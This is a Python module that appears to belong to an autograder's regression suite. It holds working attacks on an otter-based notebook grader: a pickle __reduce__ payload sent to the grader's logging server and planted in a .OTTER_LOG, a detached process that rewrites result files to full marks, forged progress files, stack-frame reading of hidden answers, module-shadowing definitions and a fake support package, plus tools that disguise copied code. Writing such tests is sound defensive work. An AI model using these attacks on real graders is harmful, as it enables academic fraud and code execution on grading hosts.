"""The example class's newer kinds: attacks on the grader from inside an answer or a definition, copies that
hide their source, and honest answers in the forms a strict grader used to refuse.

``scripts/assignment_examples.py`` writes and grades the class; this module says how each of these kinds is
made and what it must score. Every attack here worked against the grader before it was sandboxed (issue
"Autograded points an instructor can trust"): each is written to succeed if the defence it targets is gone,
so the class is a regression suite, not a list of names.

- ``ANSWER_ATTACKS`` replace the first answer of a blank notebook by a function that attacks from where an
  answer runs (the child process that grading starts for it);
- ``DEFINITION_ATTACKS`` add top-level definitions whose definition itself would run code (a decorator or
  base class named like a trusted one, a class hook);
- ``PACKAGE_FOLDER`` is a package handed in beside the notebook, in the zip;
- ``renamed_copy`` and ``pasted_library`` hide where correct code came from;
- ``variant.honest(values)`` (in each assignment's folder) answers as a careful student would, with the
  top-level helpers, loops, scipy, float32 and lists the prompts allow.
"""

from __future__ import annotations

import ast
import pickle

import copying

#: A script that, for a minute, rewrites every pickled otter result it finds in the temporary folder so
#: that every test scores full marks (what a process that outlives the answer would do).
REWRITE_RESULTS = '''import glob, pickle, tempfile, time
end = time.time() + 60
while time.time() < end:
    for path in glob.glob(tempfile.gettempdir() + "/*.pkl"):
        try:
            with open(path, "rb") as f:
                results = pickle.load(f)
            for test in results.results.values():
                test.update_score(test.possible)
            with open(path, "wb") as f:
                pickle.dump(results, f)
        except Exception:
            pass
    time.sleep(0.02)
'''

#: Attacks written as the first answer of a blank notebook: kind -> (code with ``{name}``, flags required).
ANSWER_ATTACKS = {
    # a process started from the answer, in its own session so that killing the answer's group misses it
    "attack_detached": ('''def {name}(*args, **kwargs):
    import subprocess
    import sys
    subprocess.Popen([sys.executable, "-c", SCRIPT], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    raise ValueError("not answered yet")''', ("subprocess",)),
    # otter's logging server unpickles what it receives, in the grading host: a record whose unpickling
    # starts a thread there that rewrites the results
    "attack_log_server": ('''def {name}(*args, **kwargs):
    import logging
    import pickle
    import socket
    import struct
    class Payload:
        def __reduce__(self):
            return (exec, ("import threading\\nthreading.Thread(target=exec, args=(SCRIPT,), daemon=True).start()",))
    for handler in logging.getLogger("otter").handlers + logging.getLogger().handlers:
        if hasattr(handler, "port") and hasattr(handler, "host"):
            data = pickle.dumps(Payload())
            with socket.create_connection((handler.host, handler.port), timeout=2) as s:
                s.sendall(struct.pack(">L", len(data)) + data)
    raise ValueError("not answered yet")''', ("pickle",)),
    # full marks written to the progress file that a stopped run is scored from, then the kernel killed
    "attack_progress": ('''def {name}(*args, **kwargs):
    import json
    import os
    import signal
    import sys
    tests = getattr(sys.modules["__main__"], "_ag_tests", {"tests/q1.py": ""})
    path = os.environ.get("ATTNLIB_GRADING_PROGRESS")
    if path:
        with open(path, "w") as f:
            json.dump({os.path.basename(t)[:-3]: [99, 99] for t in tests}, f)
    os.kill(os.getppid(), signal.SIGKILL)
    raise ValueError("not answered yet")''', ("signal",)),
    # the test's frames, read from the answer: the hidden test's expected values are in its locals
    "attack_frames": ('''def {name}(*args, **kwargs):
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        for key in ("expected", "want", "reference"):
            if key in frame.f_locals:
                return frame.f_locals[key]
        frame = frame.f_back
    raise ValueError("not answered yet")''', ("sys._getframe",)),
}

#: Top-level definitions whose definition would run code: a decorator or a base class named like a trusted
#: one, and class hooks. Each calls ``_full_marks``, which patches the support module's comparisons.
DEFINITION_ATTACKS = {
    "attack_shadowing": ('''def _full_marks():
    import assignment_support
    assignment_support.expect_close = lambda *args, **kwargs: True
    assignment_support.expect_equal = lambda *args, **kwargs: True
    assignment_support.check = lambda *args, **kwargs: True
    assignment_support.raises = lambda *args, **kwargs: True


def dataclass(cls):
    _full_marks()
    return cls


@dataclass
class Settings:
    size = 3


def property(fn):
    _full_marks()
    return fn


class Shape:
    @property
    def size(self):
        return 1


class ValueError(Exception):
    def __init_subclass__(cls, **kwargs):
        _full_marks()


class ShapeError(ValueError):
    pass


class Registry:
    def __class_getitem__(cls, item):
        _full_marks()
        return cls

    def __set_name__(self, owner, name):
        _full_marks()''', ("assignment_support",)),
}

#: A package handed in beside the notebook, named like the support module: Python imports a package before a
#: module of the same name, so every check it answers would pass. (The zip also carries ``otter_log()``.)
PACKAGE_FOLDER = {"assignment_support/__init__.py": '''"""Not the grader's support module."""
SECONDS = 5.0


def call(fn, *args, **kwargs):
    return None


def expect_close(*args, **kwargs):
    return True


expect_equal = check = raises = expect_close


def __getattr__(name):
    return expect_close
'''}


class _Exec:
    """Pickles as a call of ``exec``: what a crafted ``.OTTER_LOG`` holds."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


def otter_log() -> bytes:
    """A ``.OTTER_LOG`` for the package zip: otter unpickles it (dill) in the grading process before the
    notebook runs, and this one starts a thread there that rewrites the results (``REWRITE_RESULTS``)."""
    start = f"import threading\nthreading.Thread(target=exec, args=({REWRITE_RESULTS!r},), daemon=True).start()"
    return pickle.dumps(_Exec(start))


def answer_attack(kind: str, first_function: str) -> str:
    code, _ = ANSWER_ATTACKS[kind]
    return f"SCRIPT = {REWRITE_RESULTS!r}\n\n\n" + code.replace("{name}", first_function)


def attack_flags(kind: str) -> tuple[str, ...]:
    return {**ANSWER_ATTACKS, **DEFINITION_ATTACKS}[kind][1]


# --- copies that hide their source --------------------------------------------------------------


class _Renamer(ast.NodeTransformer):
    """Every local of each function renamed ``v1, v2, ...`` (what a copier's tool does). Parameters keep
    their names: the tests may pass arguments by keyword."""

    def visit_FunctionDef(self, node):
        params = {a.arg for a in node.args.args + node.args.kwonlyargs + node.args.posonlyargs}
        local = {n.id for n in ast.walk(node) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)}
        names = {old: f"v{i}" for i, old in enumerate(sorted(local - params), 1)}
        for n in ast.walk(node):
            if isinstance(n, ast.Name) and n.id in names:
                n.id = names[n.id]
        return node


def renamed_copy(source: str) -> str:
    """``source`` with every function's locals renamed and its comments gone (through ``ast.unparse``)."""
    return ast.unparse(_Renamer().visit(ast.parse(source)))


def pasted(dotted: str) -> str:
    """The source of an attnlib function, without its decorators, renamed ``_pasted_<name>``, locals renamed."""
    tree = ast.parse(copying.library_source(dotted))
    tree.body[0].name = f"_pasted_{tree.body[0].name}"
    return renamed_copy(ast.unparse(tree))


def pasted_library(source: str, about: tuple[str, ...]) -> str:
    """A correct answer cell with the source of the library functions its question is about pasted above it."""
    return "\n\n\n".join([*(pasted(d) for d in about), source])
